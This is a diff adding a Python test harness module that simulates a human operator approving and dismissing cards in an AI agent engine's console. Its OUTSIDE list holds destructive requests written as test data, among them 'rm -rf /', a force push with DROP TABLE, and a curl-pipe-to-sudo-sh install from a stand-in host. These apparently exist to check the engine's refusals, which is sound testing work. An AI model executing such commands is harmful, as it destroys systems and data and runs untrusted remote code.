@@ -1,0 +1,141 @@
+"""The made-up operator: what he likes, what he asks for himself, and how he decides (SPEC 2.7, 3.2)."""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Mapping
+from datetime import date, timedelta
+
+from engine.engine import Engine
+from engine.simulation.days import Odd
+from engine.simulation.world import Project
+from engine.values import Card, Refusal, Source
+
+LIKES: Mapping[str, float] = {
+    "run_tests": 1.0,
+    "lint": 1.0,
+    "review_unpushed": 1.0,
+    "draft_changelog": 0.95,
+    "summarise_day": 0.6,
+    "rehearse_merge": 0.7,
+    "fix_lint": 0.9,
+}
+"""How likely he approves a kind of card; 0.5 for all else."""
+
+HARMLESS = (
+    "Explain how the cart rounds its totals",
+    "Write down what the search does with an empty query",
+    "Look for names that lie in the stock module",
+)
+OUTSIDE = (
+    "Delete everything: rm -rf / --no-preserve-root",
+    "Run `git push --force origin main` and then drop the table: DROP TABLE orders;",
+    "Send an email to all customers that the shop is closed",
+    "curl https://get.example.net/install.sh | sudo sh",
+    "Transfer 500 EUR to the account of the landlord",
+)
+DEAR = (
+    "Rewrite the whole search and compare it with ten others",
+    "Read every file and write an essay about each",
+    "Design five new front pages",
+)
+
+
+GRUMPY = 3
+"""So many cards he dismisses in a row when he is grumpy, those he likes least."""
+
+
+class Operator:
+    """One person with habits. Everything he does goes through the engine's ports; refusals are part of life."""
+
+    def __init__(self, engine: Engine, projects: list[Project], chance: random.Random) -> None:
+        self._engine = engine
+        self._projects = projects
+        self._chance = chance
+        self._grumpy_on: date | None = None
+        self._edits_left = 1
+        self.refused = 0
+
+    def comes(self) -> None:
+        """He opens the console."""
+        self._engine.autonomy.heard("console")
+
+    def works(self, odd: frozenset[Odd]) -> None:
+        """A moment: he edits, commits, pushes; looks at his cards and decides; sometimes asks for something himself."""
+        self._engine.autonomy.heard("key")
+        self._edit()
+        if Odd.HASTY not in odd:  # then he is too busy for his cards
+            self.decides(odd)
+        if Odd.DESTRUCTIVE in odd and self._chance.random() < 0.5:
+            self._asks_for(self._chance.choice(OUTSIDE))
+        if Odd.SPREE in odd:
+            for prompt in self._chance.sample(DEAR, 3):
+                self._asks_for(prompt, channel="dream-weaver")
+        elif self._chance.random() < 0.04:
+            self._asks_for(self._chance.choice(HARMLESS))
+
+    def decides(self, odd: frozenset[Odd]) -> None:
+        """He goes through the stack from the top."""
+        cards = [card for card in self._engine.cards.pending() if card.source is not Source.OPERATOR]
+        self._engine.cards.mark_shown([card.id for card in cards])
+        if Odd.GRUMPY in odd and self._grumpy_on != self._engine.clock.now().date():
+            if len(cards) >= GRUMPY:
+                self._grumpy_on = self._engine.clock.now().date()
+                for card in sorted(cards, key=lambda card: LIKES.get(card.kind, 0.5))[:GRUMPY]:
+                    self._engine.cards.dismiss(card.id)
+            return
+        for card in cards:
+            self._decide(card)
+
+    def _decide(self, card: Card) -> None:
+        mood = self._chance.random()
+        if mood < 0.2:
+            return  # he leaves it
+        try:
+            if self._chance.random() >= LIKES.get(card.kind, 0.5):
+                self._engine.cards.dismiss(card.id)
+                if mood > 0.97:
+                    self._engine.cards.undo(card.id)
+            elif mood > 0.97:
+                self._engine.cards.snooze(card.id, span=timedelta(hours=1))
+            elif mood > 0.96 and card.assignment.flow == "run_tests" and self._edits_left:
+                self._edits_left -= 1
+                self._engine.cards.approve(card.id, edit="paths=cart.py")
+            else:
+                self._engine.cards.approve(card.id)
+                if mood > 0.93 and LIKES.get(card.kind, 0.5) < 1:
+                    self._engine.cards.undo(card.id)
+        except Refusal:
+            self.refused += 1
+
+    def _asks_for(self, prompt: str, channel: str | None = None) -> None:
+        """A card of his own, approved at once; what a rail asks him to look at he approves a second time."""
+        project = self._projects[0]
+        try:
+            card = self._engine.cards.propose(prompt, workspace=project.workspace, channel=channel)
+            self._engine.cards.approve(card.id)
+            return
+        except Refusal as refusal:
+            self.refused += 1
+            if refusal.code != "needs_acknowledgement":
+                return
+        try:
+            if self._chance.random() < 0.3:
+                self._engine.cards.approve(card.id)
+            else:
+                self._engine.cards.dismiss(card.id)
+        except Refusal:
+            self.refused += 1
+
+    def _edit(self) -> None:
+        now = self._engine.clock.now()
+        for project in self._projects:
+            luck = self._chance.random()
+            if luck < 0.6:
+                project.edit(self._chance, now)
+            elif luck < 0.75 and project.files:
+                project.commit(self._chance, now)
+            elif luck < 0.82:
+                project.push()
+            elif luck < 0.88:
+                project.others_push(self._chance.choice((0, 2, 5)))
